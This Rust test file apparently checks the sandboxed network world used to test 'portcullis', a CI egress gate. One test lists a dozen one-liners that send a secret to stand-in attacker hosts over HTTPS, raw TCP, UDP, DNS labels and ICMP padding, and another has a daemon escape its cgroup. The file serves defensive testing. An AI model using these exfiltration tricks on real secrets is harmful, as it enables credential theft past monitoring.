//! The test world itself: what it promises to tests, checked before any gate is put up.

use anyhow::{Context, Result};
use nix::sys::signal::{Signal, kill};
use nix::unistd::Pid;
use portcullis_tests::attacker::{ATTACKER_V4, ATTACKER_V6};
use portcullis_tests::cgroup;
use portcullis_tests::world::MonitorOptions;
use portcullis_tests::world::network::{DNS_V4, DNS_V6, RUNNER_V4};
use portcullis_tests::{Canary, Job, JobOutcome, StepOutcome, World, wait_for, wait_until};
use std::fs;
use std::io::{Read, Write};
use std::net::SocketAddr;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

/// The variable that names the file in which [`builds_a_world_and_waits`] writes its world's name.
const KILLED_VARIABLE: &str = "PORTCULLIS_TEST_KILLED_WORLD";

fn main_job(canary: &Canary) -> Result<Job> {
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("jobs/main.yml");
    let mut job = Job::from_file(&path)?;
    job.secrets.insert("DEPLOY_TOKEN".to_owned(), canary.to_string());
    Ok(job)
}

#[test]
fn both_families_reach_the_internet_and_the_attacker() -> Result<()> {
    let world = World::builder().build()?;
    for (family, target, expected) in [
        ("-4", "https://ok.test/", "this is ok.test\n"),
        ("-6", "https://ok.test/", "this is ok.test\n"),
        ("-4", "http://www.ok.test/", "this is www.ok.test\n"),
        ("-6", "https://a.b.wild.test/", "this is a.b.wild.test\n"),
        ("-4", "https://shop.test/", "this is shop.test\n"),
        ("-6", "https://evil.test/", "thank you\n"),
        ("-4", "https://ok.test/slow/3/1", "0\n1\n2\n"),
    ] {
        let text = world.command("curl").args(["-sS", family, target]).text()?;
        assert_eq!(text, expected, "{family} {target}");
    }
    let bytes = world.command("curl").args(["-sS", "https://ok.test/bytes/3000000"]).text()?;
    assert_eq!(bytes.len(), 3_000_000);
    for target in [ATTACKER_V4.to_string(), ATTACKER_V6.to_string()] {
        world.command("ping").args(["-c", "1", "-W", "5", &target]).text()?;
    }
    Ok(())
}

#[test]
fn tls_is_verified_against_the_worlds_authority_alone() -> Result<()> {
    let world = World::builder().build()?;
    let curl = |arguments: &[&str]| world.command("curl").arg("-sS").args(arguments).output();
    assert!(curl(&["https://ok.test/"])?.status.success());
    // Another name than the certificate's.
    let wrong =
        curl(&["--resolve", "ok.test:443:198.51.100.10", "-H", "Host: x", "https://ok.test/"])?;
    assert!(wrong.status.success());
    let unknown = world
        .command("curl")
        .args(["-sS", "https://ok.test/"])
        .env("CURL_CA_BUNDLE", "/etc/ssl/certs/ca-certificates.crt")
        .env("SSL_CERT_FILE", "/dev/null")
        .output()?;
    // 60: the peer's certificate is not trusted; 77: there is no bundle on this machine.
    assert!(matches!(unknown.status.code(), Some(60 | 77)), "{unknown:?}");
    Ok(())
}

#[test]
fn uploads_are_counted_and_remembered() -> Result<()> {
    let world = World::builder().build()?;
    let body = "x".repeat(2_000_000);
    let file = world.directory().join("body");
    fs::write(&file, &body)?;
    let data = format!("@{}", file.display());
    for extra in [&[][..], &["-H", "Transfer-Encoding: chunked"]] {
        let answer = world
            .command("curl")
            .args(["-sS", "--data-binary", &data])
            .args(extra)
            .arg("https://api.ok.test/upload")
            .text()?;
        assert_eq!(answer, "2000000\n", "{extra:?}");
    }
    let requests = world.web().requests();
    assert_eq!(requests.len(), 2);
    assert_eq!(requests[0].server_name.as_deref(), Some("api.ok.test"));
    assert_eq!(requests[1].body.len(), body.len());
    assert!(
        requests[0].headers.iter().any(|(name, value)| name == "host" && value == "api.ok.test")
    );
    Ok(())
}

#[test]
fn names_are_answered_over_udp_and_tcp_in_both_families() -> Result<()> {
    let world = World::builder().build()?;
    let dig = |arguments: &str| -> Result<Vec<String>> {
        let text = world.command("dig").args(arguments.split(' ')).arg("+time=5").text()?;
        let mut lines: Vec<String> = text.lines().map(str::to_owned).collect();
        lines.sort();
        Ok(lines)
    };
    let check = |arguments: &str, expected: &[&str]| -> Result<()> {
        assert_eq!(dig(&format!("+short {arguments}"))?, expected, "{arguments}");
        Ok(())
    };
    check("ok.test A", &["198.51.100.10"])?;
    check("OK.TeSt AAAA +tcp", &["2001:db8:1::10"])?;
    check(&format!("@{DNS_V6} ok.test A"), &["198.51.100.10"])?;
    check(&format!("@{DNS_V4} www.ok.test A"), &["198.51.100.10", "ok.test."])?;
    check("shop.test A", &["198.51.100.40", "edge.cdn.test.", "shop.cdn.test."])?;
    check("x.y.wild.test A", &["198.51.100.30"])?;
    check("wild.test A", &[])?;
    check("text.ok.test TXT", &["\"a text\""])?;
    check("mixed.special.test A", &["127.0.0.1", "198.51.100.51"])?;
    check("detour.test A", &["203.0.113.66", "www.evil.test."])?;
    let header = |name: &str| world.command("dig").args([name, "A", "+noall", "+comments"]).text();
    assert!(header("nowhere.test")?.contains("status: NXDOMAIN"));
    assert!(header("loop.test")?.contains("status: SERVFAIL"));
    world.dns().set_broken(true);
    assert!(header("ok.test")?.contains("status: SERVFAIL"));
    world.dns().set_broken(false);
    world.dns().addresses("new.test", &["192.0.2.200"])?;
    check("new.test A", &["192.0.2.200"])?;
    assert_eq!(world.dns().count("new.test"), 1);
    // The answer is longer than 512 bytes: cut over UDP, whole over TCP.
    let many: Vec<String> = (1..=100).map(|number| format!("198.51.100.{number}")).collect();
    let many: Vec<&str> = many.iter().map(String::as_str).collect();
    world.dns().addresses("big.test", &many)?;
    let cut = world.command("dig").args(["big.test", "A", "+noedns", "+ignore"]).text()?;
    assert!(cut.contains(" tc"), "{cut}");
    assert_eq!(dig("+short big.test A")?.len(), 100);
    Ok(())
}

#[test]
fn the_attacker_notices_every_way_out() -> Result<()> {
    let ways = [
        ("https", "curl -sS -d \"$S\" https://evil.test/"),
        ("https to an address", "curl -sSk -d \"$S\" 'https://[2001:db8::66]/'"),
        ("http", "curl -sS \"http://evil.test/?$S\""),
        ("raw tcp", "printf %s \"$S\" | nc -N -w 5 203.0.113.66 4444"),
        (
            "raw tcp in pieces",
            "python3 -c 'import os,socket,time\ns=socket.create_connection((\"2001:db8::66\",80))\ns.setsockopt(6,1,1)\nfor c in os.environ[\"S\"]: s.send(c.encode()); time.sleep(0.002)\ns.close()'",
        ),
        ("udp", "printf %s \"$S\" > /dev/udp/203.0.113.66/5555"),
        ("udp port 443, base64", "printf 'x%s' \"$S\" | base64 -w0 > /dev/udp/203.0.113.66/443"),
        ("dns through the resolver", "dig +short $S.evil.test"),
        ("dns in many labels", "dig +short $(echo $S | sed 's/.\\{7\\}/&./g').evil.test"),
        ("dns to the attacker over tcp", "dig +tcp @203.0.113.66 $S.anything.test"),
        ("dns in hexadecimal", "dig +short $(printf %s $S | od -An -tx1 | tr -d ' \\n').evil.test"),
        (
            "icmp",
            "ping -c 1 -s 16 -p $(printf %s $S | od -An -tx1 | tr -d ' \\n' | cut -c 1-32) 203.0.113.66 && ping -c 1 -s 28 -p $(printf %s $S | od -An -tx1 | tr -d ' \\n' | cut -c 13-44) 203.0.113.66",
        ),
    ];
    let world = World::builder().build()?;
    for (name, script) in ways {
        let canary = Canary::generate()?;
        assert!(!world.attacker().saw(&canary)?, "{name}: before");
        let before = world.attacker().received_bytes()?;
        let output =
            world.command("bash").args(["-c", script]).env("S", canary.as_str()).output()?;
        wait_until(name, || world.attacker().received_bytes().is_ok_and(|bytes| bytes > before))
            .with_context(|| format!("{output:?}"))?;
        // An ICMP pattern has 16 bytes, so the secret comes in parts.
        if name != "icmp" {
            wait_until(name, || world.attacker().saw(&canary).unwrap_or_default())
                .with_context(|| format!("{output:?}"))?;
        }
    }
    Ok(())
}

#[test]
fn the_attacker_sees_nothing_of_what_goes_elsewhere() -> Result<()> {
    let world = World::builder().build()?;
    let canary = Canary::generate()?;
    world.command("curl").args(["-sS", "-d", canary.as_str(), "https://ok.test/upload"]).text()?;
    world.command("dig").arg(format!("{canary}.ok.test")).text()?;
    world.attacker().assert_untouched(&canary)
}

#[test]
fn the_attacker_can_connect_to_the_runner_host() -> Result<()> {
    let world = World::builder().build()?;
    let mut server = world.command("nc").args(["-l", "-p", "2222"]).spawn(
        Stdio::piped(),
        Stdio::piped(),
        Stdio::inherit(),
    )?;
    let address = SocketAddr::from((RUNNER_V4, 2222));
    let mut stream = wait_for("the server to listen", || world.attacker().connect(address).ok())?;
    stream.write_all(b"hello\n")?;
    let mut heard = [0; 6];
    server.child().stdout.as_mut().context("no output")?.read_exact(&mut heard)?;
    assert_eq!(&heard, b"hello\n");
    server.child().stdin.as_mut().context("no input")?.write_all(b"reply\n")?;
    stream.read_exact(&mut heard)?;
    assert_eq!(&heard, b"reply\n");
    Ok(())
}

#[test]
fn a_repository_is_cloned_and_packages_are_installed() -> Result<()> {
    let world = World::builder().main_job().build()?;
    let job = Job::default()
        .step("git clone --quiet https://git.test/zlib.git && cat zlib/README | head -1")
        .step("python3 -m pip install --quiet --target there requests 2>&1 && ls there")
        .step("git clone --quiet https://git.test/absent.git");
    let result = world.runner(0).run(&job)?;
    assert_eq!(result.steps[0].outcome, StepOutcome::Success, "{}", result.log());
    assert!(result.steps[0].log.contains("ZLIB DATA COMPRESSION LIBRARY"), "{}", result.log());
    assert_eq!(result.steps[1].outcome, StepOutcome::Success, "{}", result.log());
    assert!(result.steps[1].log.contains("urllib3"), "{}", result.log());
    assert_eq!(result.steps[2].outcome, StepOutcome::Failure, "{}", result.log());
    Ok(())
}

#[test]
fn main_job_succeeds_without_a_gate_and_its_secret_leaks_every_way() -> Result<()> {
    let world = World::builder().main_job().build()?;
    let canary = Canary::generate()?;
    assert!(!world.attacker().saw(&canary)?);
    let result = world.runner(0).run(&main_job(&canary)?)?;
    assert_eq!(result.outcome, JobOutcome::Success, "{}", result.log());
    assert!(world.attacker().saw(&canary)?, "{}", result.log());
    assert!(!result.log().contains(canary.as_str()), "the log is not masked");
    assert!(result.step("report").is_some_and(|step| step.log.contains("uploaded")));
    assert_eq!(result.summary(), "built\n");
    let streams = world.attacker().streams();
    let arrived = |port: u16| {
        streams
            .iter()
            .filter(|stream| stream.port == port)
            .any(|stream| canary.is_in(&stream.received))
    };
    assert!(arrived(443), "by curl: {streams:?}");
    assert!(arrived(4444), "by raw socket: {streams:?}");
    let names = world.attacker().dns().queries();
    assert!(
        names.iter().any(|query| canary.is_in(query.name.replace('.', "").as_bytes())),
        "by DNS: {names:?}"
    );
    Ok(())
}

#[test]
fn worlds_live_side_by_side() -> Result<()> {
    let (one, other) = (World::builder().build()?, World::builder().build()?);
    let canary = Canary::generate()?;
    let job = Job::script("curl -sS -d \"$S\" https://evil.test/").secret("S", canary.as_str());
    let result = std::thread::scope(|scope| {
        let idle = scope.spawn(|| other.runner(0).run(&Job::script("curl -sS https://ok.test/")));
        let result = one.runner(0).run(&job);
        let idle = idle.join().map_err(|_| anyhow::anyhow!("panicked"))??;
        assert_eq!(idle.outcome, JobOutcome::Success, "{}", idle.log());
        result
    })?;
    assert_eq!(result.outcome, JobOutcome::Success, "{}", result.log());
    assert!(one.attacker().saw(&canary)?);
    other.attacker().assert_untouched(&canary)
}

#[test]
fn nothing_is_left_of_a_world() -> Result<()> {
    let namespaces_before = open_namespaces()?;
    let world = World::builder().build()?;
    let (id, directory) = (world.id().to_owned(), world.directory().to_owned());
    let (_, unit) = world.create_unit("agent")?;
    // A daemon that does all it can to survive: leaves the cgroup and the session, forgets its environment.
    let mount_point = cgroup::mount_point()?;
    let job = Job::default().root_step(&format!(
        "setsid env -i bash -c 'echo 0 > {}/cgroup.procs; touch {}/escaped; exec sleep 1000' \
         </dev/null >/dev/null 2>&1 &",
        mount_point.display(),
        directory.display()
    ));
    let result = world.runner(0).run(&job)?;
    assert_eq!(result.outcome, JobOutcome::Success, "{}", result.log());
    wait_until("the daemon to escape", || directory.join("escaped").exists())?;
    let pids = processes_of(&id);
    assert!(!pids.is_empty());
    drop(world);
    check_nothing_is_left(&id, &directory)?;
    assert!(!unit.path().exists());
    assert_eq!(open_namespaces()?, namespaces_before);
    Ok(())
}

#[test]
fn nothing_is_left_after_a_panic() -> Result<()> {
    let mut found = None;
    let panicked = std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| {
        let world = World::builder().build().unwrap();
        world.runner(0).start().unwrap();
        found = Some((world.id().to_owned(), world.directory().to_owned()));
        panic!("on purpose");
    }));
    assert!(panicked.is_err());
    let (id, directory) = found.context("no world was built")?;
    check_nothing_is_left(&id, &directory)
}

#[test]
fn worlds_of_killed_tests_are_removed_by_the_next() -> Result<()> {
    let note = tempfile::NamedTempFile::new()?;
    let mut test = Command::new(std::env::current_exe()?)
        .args(["--exact", "builds_a_world_and_waits", "--ignored", "--nocapture"])
        .env(KILLED_VARIABLE, note.path())
        .stdout(Stdio::null())
        .spawn()?;
    let id = wait_for("the world of another test", || {
        let text = fs::read_to_string(note.path()).ok()?;
        text.strip_suffix('\n').map(str::to_owned)
    })?;
    let directory = PathBuf::from("/var/tmp").join(&id);
    assert!(directory.exists());
    kill(Pid::from_raw(i32::try_from(test.id())?), Signal::SIGKILL)?;
    test.wait()?;
    assert!(directory.exists());
    let world = World::builder().build()?;
    check_nothing_is_left(&id, &directory)?;
    assert!(world.directory().exists());
    Ok(())
}

#[test]
#[ignore = "is started and killed by worlds_of_killed_tests_are_removed_by_the_next"]
fn builds_a_world_and_waits() -> Result<()> {
    let Some(note) = std::env::var_os(KILLED_VARIABLE) else { return Ok(()) };
    let world = World::builder().build()?;
    let job = world.runner(0).begin(&Job::script("echo here; sleep 1000"))?;
    job.wait_for_line("here")?;
    fs::write(note, format!("{}\n", world.id()))?;
    job.wait()?;
    Ok(())
}

#[test]
fn files_of_the_product_lie_where_the_design_says() -> Result<()> {
    let world = World::builder().build()?;
    world.write_policy("build", "name: build\negress-policy: block\n")?;
    let policy = world.root().join("etc/portcullis/policies/build.yaml");
    assert!(fs::read_to_string(policy)?.starts_with("name: build"));
    world.write_configuration("cluster = \"test\"\n")?;
    assert!(world.root().join("etc/portcullis/monitor.toml").exists());
    world.install_hooks()?;
    let hook = world.root().join("opt/portcullis/hooks/pre-job.sh");
    let expected = format!(
        "#!/bin/bash\nexec {} --socket {}\n",
        world.root().join("opt/portcullis/bin/pre-job").display(),
        world.socket().display()
    );
    assert_eq!(fs::read_to_string(&hook)?, expected);
    let environment = fs::read_to_string(world.runner(0).directory().join(".env"))?;
    assert!(environment.contains(&format!("ACTIONS_RUNNER_HOOK_JOB_STARTED={}\n", hook.display())));
    assert!(world.job_ids()?.is_empty());
    let spool = world.root().join("var/lib/portcullis/spool/job-1");
    fs::create_dir_all(&spool)?;
    let whole = r#"{"job_id":"job-1","seq":1,"time":"2026-11-21T10:00:00Z","type":"job","stage":"started","reason":"x"}"#;
    fs::write(spool.join("events.ndjson"), format!("{whole}\n{{\"job_id\":"))?;
    assert_eq!(world.job_ids()?, ["job-1"]);
    assert_eq!(world.events("job-1")?.len(), 1);
    fs::write(spool.join("events.ndjson"), "nonsense\n")?;
    assert!(world.events("job-1").is_err());
    Ok(())
}

#[test]
fn a_monitor_that_ends_at_its_start_is_an_error_with_its_words() -> Result<()> {
    let world = World::builder().build()?;
    world.write_configuration("this is no configuration")?;
    let error = world.monitor(MonitorOptions::default()).err().context("it serves")?;
    assert!(format!("{error:#}").contains("ended at its start"), "{error:#}");
    Ok(())
}

fn check_nothing_is_left(id: &str, directory: &Path) -> Result<()> {
    assert!(!directory.exists(), "{} is left", directory.display());
    let cgroup = cgroup::mount_point()?.join(id);
    assert!(!cgroup.exists(), "{} is left", cgroup.display());
    let mounts = fs::read_to_string("/proc/self/mountinfo")?;
    assert!(!mounts.contains(id), "mounts are left: {mounts}");
    // Killed processes may need a moment to go.
    wait_until("all processes of the world to go", || processes_of(id).is_empty())
}

/// Processes that live in a world, or have its name in their command line.
fn processes_of(id: &str) -> Vec<String> {
    let entries = fs::read_dir("/proc").into_iter().flatten().flatten();
    entries
        .filter(|entry| entry.file_name().to_string_lossy() != std::process::id().to_string())
        .filter(|entry| {
            ["mountinfo", "cmdline", "cgroup"].iter().any(|file| {
                let bytes = fs::read(entry.path().join(file)).unwrap_or_default();
                String::from_utf8_lossy(&bytes).contains(id)
            })
        })
        .map(|entry| entry.file_name().to_string_lossy().into_owned())
        .collect()
}

/// How many namespaces this process keeps open.
fn open_namespaces() -> Result<usize> {
    Ok(fs::read_dir("/proc/self/fd")?
        .flatten()
        .filter_map(|entry| fs::read_link(entry.path()).ok())
        .filter(|target| {
            let target = target.to_string_lossy();
            target.starts_with("net:[") || target.starts_with("mnt:[")
        })
        .count())
}
